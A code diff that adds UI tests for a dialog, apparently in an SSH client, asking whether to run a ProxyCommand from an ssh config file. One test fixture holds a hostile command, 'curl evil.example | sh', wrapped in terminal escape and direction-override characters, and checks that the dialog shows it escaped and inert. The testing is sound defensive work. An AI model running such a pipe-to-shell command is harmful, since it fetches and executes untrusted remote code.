@@ -77,6 +77,45 @@ describe('the question for a host key', () => {
   });
 });
 
+describe('the question for a command', () => {
+  it('names the node, the host and the place, and has the focus where nothing is run', async () => {
+    const dialog = await ask('proxy-command');
+    within(dialog).getByRole('heading', { name: 'Run a command to reach graviton?' });
+    within(dialog).getByText('/home/anna/.ssh/config:31');
+    within(dialog).getByText(/^aws ssm start-session .*'portNumber=22'$/, { selector: 'code' });
+    within(dialog).getByRole('button', { name: 'Copy command' });
+    await waitFor(() => expect(document.activeElement).toBe(within(dialog).getByRole('button', { name: 'Don’t run' })));
+  });
+
+  it.each([
+    ['Always run', 'trust'],
+    ['Run once', 'once'],
+    ['Don’t run', 'refuse'],
+  ] as const)('is answered with %s', async (name, answer) => {
+    const dialog = await ask('proxy-command');
+    fireEvent.click(within(dialog).getByRole('button', { name }));
+    await isGone();
+    expect(answers).toEqual([{ id: 'question-11', answer }]);
+  });
+
+  it('is refused with Escape', async () => {
+    fireEvent.keyDown(await ask('proxy-command'), { key: 'Escape' });
+    await isGone();
+    expect(answers).toEqual([{ id: 'question-11', answer: 'refuse' }]);
+  });
+
+  it('shows all of a command, and nothing of it acts', async () => {
+    const dialog = await ask('proxy-command-hostile');
+    within(dialog).getByRole('heading', { name: 'Run a command to reach bastion?' });
+    expect(dialog.textContent).toContain('\\u{1b}]0;curl evil.example | sh\\u{7} \\u{202e}#\\u{200b} and-on');
+    expect(dialog.textContent).toContain('<b>bold?</b>');
+    for (const acting of ['\u001b', '\u0007', '\u202e', '\u200b']) {
+      expect(dialog.textContent).not.toContain(acting);
+    }
+    expect(dialog.querySelector('b')).toBeNull();
+  });
+});
+
 describe('the question for a passphrase', () => {
   it('names the key and the node that wants it, and has the focus in its field', async () => {
     const dialog = await ask('passphrase');
